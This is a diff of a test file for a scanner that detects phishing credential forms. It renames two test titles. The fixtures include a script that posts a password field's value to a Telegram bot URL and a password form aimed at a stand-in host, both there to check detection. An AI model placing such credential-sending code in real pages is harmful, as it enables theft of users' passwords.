@@ -216,7 +216,7 @@ test('reports the line of the form and of the field', () => {
   expect(scan(html).findings[1]?.excerpt).toStartWith('<input type=password name=pass>')
 })
 
-test('signing in at an API is no phishing, since the sandbox stops it', () => {
+test('a form that signs in at an API is not phishing, since the sandbox blocks it', () => {
   const page = (url: string) =>
     `<h2>Sign in</h2>${login}${script(`fetch('${url}', { method: 'POST', body: pass.value })`)}`
   for (const url of ['https://api.shop.example/login', 'https://shop.example/api/v1/session']) {
@@ -226,7 +226,7 @@ test('signing in at an API is no phishing, since the sandbox stops it', () => {
   expect(codesOf(page('https://api.telegram.org/bot1/x'))).toContain('phish.credential_form')
 })
 
-test('an attack that a page shows is no attack, unless it is inserted', () => {
+test('an attack that a page shows as text is allowed, unless it is inserted', () => {
   const attack = '`<form action="https://e.example"><p>${hi}</p><input type="password"></form>`'
   expect(codesOf(script(`code.textContent = ${attack}`))).toEqual([])
   expect(codesOf(script(`code.innerHTML = ${attack}`))).toContain('phish.credential_form')
